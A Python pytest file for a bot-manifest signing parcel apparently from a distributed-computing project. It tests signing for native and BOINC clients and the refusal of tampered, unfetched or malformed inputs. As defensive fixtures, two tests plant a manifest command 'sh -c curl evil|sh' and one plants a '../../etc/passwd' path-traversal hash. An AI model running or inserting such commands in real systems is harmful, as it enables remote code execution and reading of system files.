from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from gridbot_client.protocol.messages import FileRef, Manifest, ProtocolError
from gridbot_client.protocol.signatures import verify_manifest
from gridbot_server.boinc.application import signed
from gridbot_server.boinc.application.signed import BadApplication, SignedApplication
from gridbot_server.signing import boinc_keys, boinc_signatures
from gridbot_server.signing.boinc_keys import Link
from gridbot_server.signing.bundle import Parcel, ParcelError, SigningKeys

NATIVE = Ed25519PrivateKey.generate()
BOINC = boinc_keys.generate()
DATA = FileRef("in/data", hashlib.sha256(b"data").hexdigest(), 4)
MANIFEST = Manifest("ann", ("wc", "in/data"), inputs=(DATA,))


def md5(_: FileRef) -> str:
    return boinc_signatures.md5_hex(b"data")


@pytest.fixture
def parcel(tmp_path: Path) -> Parcel:
    made = Parcel(tmp_path / "parcel")
    manifest = made.put(7, MANIFEST.text())
    made.put_file(manifest.inputs[0], [b"da", b"ta"])
    return made


def test_a_bot_is_signed_for_both_kinds_of_clients(parcel: Parcel) -> None:
    assert parcel.bots() == [7]
    assert parcel.manifest(7) == MANIFEST
    assert parcel.sign(7, SigningKeys(NATIVE, BOINC)) == ""
    found = parcel.signed(7)
    signature = base64.b64decode(found["native"])
    assert verify_manifest(NATIVE.public_key().public_bytes_raw(), MANIFEST.text(), signature)
    application = SignedApplication.from_text(json.dumps(found["boinc"]))
    assert len(signed.check(MANIFEST, application, md5, BOINC.public_key())) == 2
    assert parcel.bots() == [7], "what is signed is no BOT of its own"


@pytest.mark.parametrize(
    ("at_hand", "kinds"),
    [(SigningKeys(NATIVE), {"native"}), (SigningKeys(boinc=BOINC), {"boinc"})],
)
def test_only_the_keys_at_hand_sign(parcel: Parcel, at_hand: SigningKeys, kinds: set[str]) -> None:
    assert parcel.signed(7) == {}
    parcel.sign(7, at_hand)
    assert parcel.signed(7).keys() == kinds


def test_signing_with_another_key_keeps_the_first_signature(parcel: Parcel) -> None:
    parcel.sign(7, SigningKeys(NATIVE))
    parcel.sign(7, SigningKeys(boinc=BOINC))
    assert parcel.signed(7).keys() == {"native", "boinc"}


def test_where_nothing_can_be_signed_nothing_is_written(tmp_path: Path) -> None:
    parcel = Parcel(tmp_path)
    parcel.put(7, Manifest("ann", ("x",), platforms=("windows-amd64",)).text())
    before = sorted(tmp_path.iterdir())
    assert parcel.sign(7, SigningKeys(boinc=BOINC))
    assert sorted(tmp_path.iterdir()) == before


def test_data_that_reads_like_a_script_of_ours_is_signed_for_native_clients_only(
    tmp_path: Path,
) -> None:
    parcel, data = Parcel(tmp_path), f"# Manifest {'0' * 64}\n".encode()
    ref = FileRef("data", hashlib.sha256(data).hexdigest(), len(data))
    parcel.put(7, Manifest("ann", ("x",), inputs=(ref,)).text())
    parcel.put_file(ref, [data])
    assert "holds a line like the scripts" in parcel.sign(7, SigningKeys(NATIVE, BOINC))
    assert parcel.signed(7).keys() == {"native"}


def test_a_damaged_file_is_fetched_again(parcel: Parcel) -> None:
    (parcel.folder / "files" / DATA.sha256).write_bytes(b"half")
    parcel.put_file(DATA, [b"data"])
    assert parcel.sign(7, SigningKeys(boinc=BOINC)) == ""
    parcel.put_file(DATA, iter(lambda: pytest.fail("it is here"), b""))


def test_what_boinc_clients_cannot_run_is_signed_for_native_ones_only(tmp_path: Path) -> None:
    parcel = Parcel(tmp_path)
    parcel.put(7, Manifest("ann", ("x",), platforms=("windows-amd64",)).text())
    why = parcel.sign(7, SigningKeys(NATIVE, BOINC))
    assert why.startswith("no stock client is served on windows-amd64")
    assert parcel.signed(7).keys() == {"native"}


def test_a_file_that_is_not_the_manifests_is_never_signed(parcel: Parcel) -> None:
    (parcel.folder / "files" / DATA.sha256).write_bytes(b"evil")
    with pytest.raises(BadApplication, match="in/data: what came does not hash to"):
        parcel.sign(7, SigningKeys(NATIVE, BOINC))
    assert parcel.signed(7) == {}


def test_a_file_that_was_not_fetched_is_missed(parcel: Parcel) -> None:
    (parcel.folder / "files" / DATA.sha256).unlink()
    with pytest.raises(ParcelError, match="is not here: fetch the BOT again"):
        parcel.sign(7, SigningKeys(boinc=BOINC))


@pytest.mark.parametrize(
    ("content", "why"),
    [("", "cannot be read"), ("[]", "holds no JSON object"), ("{}", "holds no manifest")],
)
def test_a_damaged_parcel_names_its_file(parcel: Parcel, content: str, why: str) -> None:
    (parcel.folder / "bot-7.json").write_text(content)
    with pytest.raises(ParcelError, match=rf"bot-7\.json: {why}"):
        parcel.sign(7, SigningKeys(NATIVE))


@pytest.mark.parametrize("name", ["bot-99.json", "bot-99.signed.json"])
def test_what_nobody_fetched_is_named_before_anything_is_signed(parcel: Parcel, name: str) -> None:
    content = {"manifest": Manifest("ada", ("sh", "-c", "curl evil|sh")).text()}
    (parcel.folder / name).write_text(json.dumps(content))
    with pytest.raises(ParcelError, match=rf"not fetched with it: {name}"):
        parcel.bots()
    with pytest.raises(ParcelError, match=r"bot-99\.json"):
        parcel.sign(99, SigningKeys(NATIVE, BOINC))
    assert parcel.signed(7) == {}


def test_a_manifest_that_is_not_the_fetched_one_is_never_signed(parcel: Parcel) -> None:
    content = {"manifest": replace(MANIFEST, command=("sh", "-c", "curl evil|sh")).text()}
    (parcel.folder / "bot-7.json").write_text(json.dumps(content))
    with pytest.raises(ParcelError, match=r"bot-7\.json: is not what was fetched"):
        parcel.sign(7, SigningKeys(NATIVE, BOINC))
    parcel.put(7, MANIFEST.text())
    assert parcel.sign(7, SigningKeys(NATIVE, BOINC)) == ""


@pytest.mark.parametrize("content", ['{"../7": ""}', "[7]", "{"])
def test_a_damaged_list_is_named(parcel: Parcel, content: str) -> None:
    (parcel.folder / "parcel.json").write_text(content)
    with pytest.raises(ParcelError, match=r"parcel\.json: "):
        parcel.bots()


def test_a_manifest_that_escapes_from_the_folder_is_refused(parcel: Parcel) -> None:
    raw: dict[str, Any] = json.loads(MANIFEST.text())
    raw["inputs"][0]["sha256"] = "../../etc/passwd"
    with pytest.raises(ProtocolError, match="sha256"):
        parcel.put(8, json.dumps(raw))


def test_the_next_key_travels_too(parcel: Parcel) -> None:
    assert parcel.key() is None
    parcel.put_key(Link("key", "signature"))
    assert parcel.key() == {"key": "key", "signature": "signature"}
    assert parcel.bots() == [7]
